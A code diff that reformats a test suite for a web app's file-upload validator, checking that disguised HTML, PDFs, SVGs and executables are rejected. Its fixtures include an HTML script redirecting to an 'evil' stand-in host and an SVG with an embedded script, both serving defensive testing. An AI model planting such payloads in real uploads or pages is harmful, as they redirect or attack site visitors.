@@ -25,7 +25,11 @@ const HTML = Buffer.from('<!doctype html><script>document.location="https://evil
 const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
 
 const upload = async (content: Buffer, filename: string, contentType: string) =>
-  kb.http().post('/api/upload').set('authorization', `Bearer ${await kb.apiToken()}`).attach('files', content, { filename, contentType });
+  kb
+    .http()
+    .post('/api/upload')
+    .set('authorization', `Bearer ${await kb.apiToken()}`)
+    .attach('files', content, { filename, contentType });
 const storedFiles = () => kb.strapi.db.query('plugin::upload.file').count();
 
 test.each([
@@ -43,7 +47,13 @@ test.each([
   ['HTML named .png', HTML, 'innocuo.png', 'image/png', /"innocuo.png": the content is not image\/png/],
   ['a PDF named .jpg', PDF, 'foto.jpg', 'image/jpeg', /the content is not image\/jpeg/],
   ['a PNG declared as HTML', null, 'logo.png', 'text/html', /declared as text\/html, but its name says image\/png/],
-  ['an SVG picture', SVG, 'logo.svg', 'image/svg+xml', /files of this type cannot be uploaded. Allowed: .jpg, .jpeg, .png, .gif, .webp, .pdf/],
+  [
+    'an SVG picture',
+    SVG,
+    'logo.svg',
+    'image/svg+xml',
+    /files of this type cannot be uploaded. Allowed: .jpg, .jpeg, .png, .gif, .webp, .pdf/,
+  ],
   ['an HTML page', HTML, 'pagina.html', 'text/html', /files of this type cannot be uploaded/],
   ['a program', Buffer.from('MZ\x90\x00'), 'setup.exe', 'application/octet-stream', /files of this type cannot be uploaded/],
   ['a file without an extension', PDF, 'documento', 'application/pdf', /files of this type cannot be uploaded/],
